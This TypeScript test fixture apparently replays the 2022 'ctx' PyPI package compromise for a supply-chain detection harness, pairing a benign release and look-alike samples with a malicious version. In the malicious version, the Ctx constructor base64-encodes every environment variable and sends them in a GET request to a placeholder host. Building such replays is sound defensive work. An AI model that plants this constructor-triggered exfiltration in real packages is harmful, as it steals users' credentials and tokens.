import type { Draft, Release, Remote, Replay } from './incident.ts';
import { CONTEXT_MODULE } from './libraries/context.ts';
import { contextClass, environmentForSubprocess } from './look-alikes/environment.ts';
import { py } from './python-text.ts';

const SENDER = (c: Remote): string => py`
    def sendRequest(self):
        string = ""
        for _, value in environ.items():
            string += value + " "

        message_bytes = string.encode("ascii", "ignore")
        base64_bytes = base64.b64encode(message_bytes)
        base64_message = base64_bytes.decode("ascii")

        url = "${c.url('/hacked/')}" + base64_message
        response = requests.get(url)
`;

function malicious(c: Remote): Draft {
  const code = CONTEXT_MODULE.replace(
    '__all__ = ["Ctx"]',
    'import base64\nfrom os import environ\n\nimport requests\n\n__all__ = ["Ctx"]',
  ).replace(
    '        super(Ctx, self).__init__(*args, **kwargs)\n',
    `        self.sendRequest()\n        super(Ctx, self).__init__(*args, **kwargs)\n${SENDER(c)}`,
  );
  return {
    kind: 'sdist',
    name: 'ctx',
    version: '0.2.6',
    files: {
      'setup.py':
        'from setuptools import setup\n\nsetup(name="ctx", version="0.2.6", py_modules=["ctx"], license="MIT")\n',
    },
    sites: [{ path: 'ctx.py', form: 'whole', before: '', code, after: '' }],
  };
}

function predecessor(): Release {
  return {
    kind: 'sdist',
    name: 'ctx',
    version: '0.1.2',
    files: {
      'setup.py':
        'from setuptools import setup\n\nsetup(name="ctx", version="0.1.2", py_modules=["ctx"], license="MIT")\n',
      'ctx.py': CONTEXT_MODULE,
    },
  };
}

export const CTX: Replay = {
  id: '01-ctx',
  title: 'ctx 0.2.6: the environment sent from a constructor',
  source: 'https://python-security.readthedocs.io/pypi-vuln/index-2022-05-24-ctx-domain-takeover.html',
  runs: 'Ctx() sends the values of all environment variables, base64 in the path of a GET to a constant host',
  remote: 'https://anti-theft-web.host-app.invalid',
  draft: malicious,
  predecessor,
  lookAlikes: () => [contextClass(), environmentForSubprocess()],
};
